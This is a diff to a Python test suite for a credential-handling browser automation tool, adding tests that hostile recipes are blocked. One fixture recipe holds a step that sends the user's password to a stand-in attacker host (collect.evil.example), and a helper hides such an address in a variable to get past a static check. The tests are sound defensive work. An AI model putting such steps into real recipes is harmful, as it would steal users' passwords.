@@ -76,10 +76,12 @@ def provider(tmp_path: Path, steps: str, extra: str = ""):
 
 
 def attack(servers, tmp_path, browser_config, steps: str):
-    """Run the steps, the attacker's address written in them (ATTACKER), as a shared file would."""
+    """Run the steps as a shared file would: the attacker's address hidden in a variable, since
+    `recipe check` refuses it written out (test_a_written_address_elsewhere_is_refused_by_recipe_check)."""
     portal, attacker, seen = servers
     seen.clear()
-    result = run_recipe(provider(tmp_path, steps.replace("ATTACKER", attacker)), browser_config,
+    hidden = f'      - set: {{name: elsewhere, value: "{attacker}"}}\n' + steps.replace("ATTACKER", "{{ elsewhere }}")
+    result = run_recipe(provider(tmp_path, hidden), browser_config,
                         {"login": "alice", "password": PASSWORD}, {"portal": portal, "other": portal},
                         out_dir=tmp_path / "out", default_step_timeout=5.0)
     return result, seen
@@ -118,6 +120,29 @@ def test_an_attack_is_stopped_before_anything_reaches_the_attacker(servers, tmp_
     assert "not one of the origins approved" in result.message or "http and https" in result.message
 
 
+def test_a_written_address_elsewhere_is_refused_by_recipe_check(tmp_path):
+    path = tmp_path / "hostile.yaml"
+    path.write_text("""providers:
+  - id: hostile
+    name: Hostile
+    homepage: https://hostile.example
+    category: énergie
+    terms: {version: "1", text: "t"}
+    credentials:
+      - {name: password, label_fr: Mot de passe, label_en: Password, type: password}
+    urls: {portal: "https://portal.hostile.example"}
+    steps:
+      - open: "{{ urls.portal }}/login"
+      - open: "https://collect.evil.example/c?p={{ password | url }}"
+""", encoding="utf-8")
+    providers, errors = load_file(path)
+    assert providers == []
+    assert [str(e) for e in errors] == [
+        f"{path}:12:15: open: https://collect.evil.example is not one of this provider's origins "
+        "(https://hostile.example, https://portal.hostile.example): add it to `origins:` if the provider really "
+        "uses it (the user approves that list)"]
+
+
 def test_the_form_posting_elsewhere_is_named(servers, tmp_path, browser_config):
     result, _ = attack(servers, tmp_path, browser_config, ATTACKS["the page's own form posting elsewhere"])
     assert result.message.startswith(f"typing a secret into a form that posts to {servers[1]}/login")
@@ -148,3 +173,25 @@ def test_origins_are_scheme_host_and_port():
     assert gate.allows("https://www.example.fr/") and gate.allows("https://sso.auth.example.fr/login")
     assert not gate.allows("https://www.example.fr.evil.test/") and not gate.allows("http://www.example.fr/")
     assert gate.holds_secret(f"https://x/?p={PASSWORD.replace('!', '%21')}")
+
+
+def test_a_persistent_profile_keeps_no_history_of_the_addresses_visited(servers, tmp_path, browser_config):
+    """An address may carry a token or a password (on the provider's own origin): the account's
+    browser profile, kept between syncs, must not remember it."""
+    import dataclasses
+    import sqlite3
+
+    portal = servers[0]
+    steps = ('      - open: "{{ urls.portal }}/login?session={{ password | url }}"\n'
+             '      - wait_for: {present: "form#f"}\n')
+    profile = tmp_path / "profile"
+    config = dataclasses.replace(browser_config, profile_dir=profile)
+    result = run_recipe(provider(tmp_path, steps), config, {"login": "alice", "password": PASSWORD},
+                        {"portal": portal, "other": portal}, out_dir=tmp_path / "out", default_step_timeout=5.0)
+    assert result.outcome == "OK", result.message
+    history = profile / "Default" / "History"
+    if history.exists():
+        with sqlite3.connect(history) as db:
+            assert db.execute("SELECT url FROM urls").fetchall() == []
+    kept = [p.name for p in profile.rglob("*") if p.is_file() and PASSWORD.encode() in p.read_bytes()]
+    assert kept == []
